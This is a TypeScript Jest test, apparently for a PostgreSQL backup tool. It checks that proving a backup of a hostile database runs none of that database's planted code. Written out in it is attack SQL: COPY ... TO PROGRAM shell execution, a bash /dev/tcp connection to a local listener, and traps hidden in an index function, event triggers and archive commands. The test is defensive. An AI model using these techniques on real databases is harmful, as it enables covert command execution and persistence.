import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { chmod, mkdir, readdir, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { once } from 'node:events';
import { join } from 'node:path';
import { backUp, makeScratch, objectsOf, repositoryAt, type Scratch } from '../../support/backup-runner.ts';
import { startServer, type TestServer } from '../../support/postgres-server.ts';
import { prove } from '../../support/proof/prove.ts';

/** Login triggers came with 17; up to 16 no setting switches event triggers off. */
describe.each([15, 17] as const)('a hostile source of PostgreSQL %i', (major) => {
  let scratch: Scratch;
  let server: TestServer;
  let canaries: string;
  let listener: Server;
  let connections = 0;

  beforeAll(async () => {
    scratch = await makeScratch();
    canaries = join(scratch.path, 'canaries');
    await mkdir(canaries);
    await chmod(canaries, 0o777);
    listener = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    listener.listen(0, '127.0.0.1');
    await once(listener, 'listening');
    server = await startServer({ major, walSegmentSizeMb: 1, settings: { autovacuum: 'off' } });
  }, 60_000);
  afterAll(async () => {
    await server.stop();
    listener.close();
    await scratch[Symbol.asyncDispose]();
  });

  const port = (): number => (listener.address() as { port: number }).port;
  /** Leaves every trace it can, and hides that it failed. */
  const attack = (name: string): string => `
    BEGIN EXECUTE $q$COPY (SELECT 1) TO PROGRAM 'touch ${canaries}/${name}'$q$; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE $q$COPY (SELECT 1) TO '${canaries}/${name}_file'$q$; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE $q$COPY (SELECT 1) TO PROGRAM 'bash -c "echo > /dev/tcp/127.0.0.1/${port()}"'$q$; EXCEPTION WHEN OTHERS THEN NULL; END;`;
  const commands = ['archive_command', 'restore_command', 'archive_cleanup_command', 'recovery_end_command'];

  test('changes nothing outside the scratch directory while its backup is proven', async () => {
    await server.query('CREATE DATABASE hostile');
    await server.sql(
      'hostile',
      `CREATE FUNCTION attack() RETURNS int LANGUAGE plpgsql VOLATILE AS $f$ BEGIN ${attack('index')} RETURN 1; END $f$;
       CREATE FUNCTION seemingly_immutable(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN RETURN $1 + public.attack(); END $f$;
       CREATE TABLE bait AS SELECT 1 AS g;
       CREATE INDEX trap ON bait (seemingly_immutable(g));
       CREATE FUNCTION on_event() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN ${attack('event')} END $f$;
       CREATE EVENT TRIGGER on_start ON ddl_command_start EXECUTE FUNCTION on_event();
       CREATE EVENT TRIGGER on_end ON ddl_command_end EXECUTE FUNCTION on_event();
       ${major < 17 ? '' : 'CREATE EVENT TRIGGER on_login ON login EXECUTE FUNCTION on_event(); ALTER EVENT TRIGGER on_login ENABLE ALWAYS;'}`,
    );
    await server.sql('hostile', 'CREATE TABLE noise ()');
    for (const command of commands)
      await server.query(`ALTER SYSTEM SET ${command} = 'touch ${canaries}/${command}'`);
    await server.query(`ALTER SYSTEM SET archive_mode = 'on'`);
    await server.query(`ALTER SYSTEM SET shared_preload_libraries = 'auto_explain'`);
    await server.query(`ALTER SYSTEM SET log_min_messages = 'panic'`);
    const ofDatabase = [
      `session_preload_libraries = 'larder_no_such_library'`,
      `local_preload_libraries = 'larder_no_such_library'`,
      ...(major < 17 ? [] : ['event_triggers = on']),
    ];
    for (const setting of ofDatabase) await server.query(`ALTER DATABASE hostile SET ${setting}`);
    const repository = repositoryAt(join(scratch.path, 'backups'));
    const backup = await backUp(repository, server.connection);

    // the source itself has run all of it: every trap works
    expect((await readdir(canaries)).sort()).toEqual(
      expect.arrayContaining(['event', 'index', 'index_file']),
    );
    expect(connections).toBeGreaterThan(0);
    await server.halt();
    await rm(canaries, { recursive: true });
    await mkdir(canaries);
    await chmod(canaries, 0o777);
    connections = 0;

    const before = await objectsOf(repository);
    const report = await prove(repository, backup, join(scratch.path, 'proofs'), { level: 'full' });
    expect(report.host.confinement).toBe('namespaces');
    expect(report.checks.flatMap(({ findings }) => findings)).toEqual([]);
    expect(await readdir(canaries)).toEqual([]);
    expect(connections).toBe(0);
    expect(await objectsOf(repository)).toEqual(before);
    await server.restart();
  }, 120_000);
});
